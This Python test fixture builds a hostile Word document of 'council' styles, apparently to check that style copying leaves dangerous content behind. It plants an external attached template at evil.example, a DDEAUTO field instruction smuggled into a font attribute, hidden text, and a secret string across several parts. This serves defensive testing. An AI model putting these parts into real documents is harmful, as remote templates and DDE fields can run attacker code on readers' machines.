"""Council documents to take styles of, with everything in them that must stay behind."""

from __future__ import annotations

from tests.hostile.making import _OFFICE, _RELS, _W, Parts, word_parts, zipped

SECRET = "Smith family"
LEFT_BEHIND = ("Smith", "evil.example", "PAGEREF", "DDEAUTO", "vanish", "Kellerton")

_STYLES = f"""<w:styles {_W}
 xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"
 xmlns:r="{_OFFICE}/relationships">
 <w:docDefaults><w:rPrDefault><w:rPr>
  <w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="24"/>
  <w:lang w:val="de-DE"/></w:rPr></w:rPrDefault>
  <w:pPrDefault><w:pPr><w:spacing w:after="160" w:line="259" w:lineRule="auto"/></w:pPr>
  </w:pPrDefault>
 </w:docDefaults>
 <w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/>
  <w:rPr><w:color w:val="222222"/><w:vanish/></w:rPr></w:style>
 <w:style w:type="paragraph" w:styleId="KellertonBase"><w:name w:val="Kellerton {SECRET}"/>
  <w:basedOn w:val="Normal"/><w:pPr><w:numPr><w:numId w:val="9"/></w:numPr>
  <w:pBdr><w:bottom w:val="single" w:sz="12" w:space="1" w:color="7A1F5C"/></w:pBdr></w:pPr>
  <w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia" w:cs='"&gt;&lt;w:instrText&gt;DDEAUTO'/>
  <w:b/><w14:shadow w14:val="{SECRET}"/></w:rPr></w:style>
 <w:style w:type="paragraph" w:customStyle="1" w:styleId="Heading1"><w:name w:val="heading 1"/>
  <w:basedOn w:val="KellertonBase"/><w:next w:val="{SECRET}"/>
  <w:pPr><w:keepNext/><w:outlineLvl w:val="0"/><w:spacing w:before="480" w:after="120"/></w:pPr>
  <w:rPr><w:color w:themeColor="accent1"/><w:sz w:val="36"/></w:rPr></w:style>
 <w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/><w:basedOn w:val="Title"/>
  <w:rPr><w:color w:val="FFFFFF"/><w:sz w:val="2"/><w:i/></w:rPr></w:style>
 <w:style w:type="paragraph" w:styleId="ListBullet"><w:name w:val="List Bullet"/>
  <w:pPr><w:keepNext/><w:ind w:left="720" w:hanging="300"/><w:contextualSpacing/></w:pPr></w:style>
 <w:style w:type="table" w:styleId="CouncilTable"><w:name w:val="{SECRET} table"/>
  <w:tblPr><w:tblBorders><w:top w:val="single" w:sz="18" w:space="0" w:color="7A1F5C"/>
  <w:insideH w:val="single" w:sz="4" w:space="0" w:color="7A1F5C"/></w:tblBorders></w:tblPr>
  <w:tblStylePr w:type="firstRow"><w:rPr><w:b/><w:color w:val="FFFFFF"/></w:rPr>
  <w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="7A1F5C"/></w:tcPr></w:tblStylePr></w:style>
</w:styles>"""
_THEME = f"""<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"
 name="{SECRET}"><a:themeElements><a:clrScheme name="x">
 <a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1>
 <a:accent1><a:srgbClr val="7A1F5C"/></a:accent1>
 <a:accent2><a:srgbClr val="{SECRET}"/></a:accent2></a:clrScheme><a:fontScheme name="x">
 <a:majorFont><a:latin typeface="Georgia"/></a:majorFont>
 <a:minorFont><a:latin typeface="Verdana"/></a:minorFont></a:fontScheme></a:themeElements>
 </a:theme>"""
_BODY = f"""<w:p><w:r><w:t>About the {SECRET} of Kellerton.</w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGEREF {SECRET}</w:instrText>
</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:tbl><w:tblPr><w:tblStyle w:val="CouncilTable"/></w:tblPr></w:tbl>
<w:sectPr><w:headerReference w:type="default"/><w:pgSz w:w="12240" w:h="15840"/>
<w:pgMar w:top="1000" w:right="1100" w:bottom="1200" w:left="1300"/></w:sectPr>"""


def council_parts() -> dict[str, bytes | str]:
    """A document with a look of its own and much else."""
    more: Parts = {
        "word/styles.xml": _STYLES,
        "word/theme/theme1.xml": _THEME,
        "word/header1.xml": f"<w:hdr {_W}><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:hdr>",
        "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + SECRET.encode(),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{_RELS}"><Relationship Id="r9" Type="{_OFFICE}/relationships/'
            'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            "</Relationships>"
        ),
    }
    return word_parts(_BODY, more)


def council_document() -> bytes:
    return zipped(council_parts())
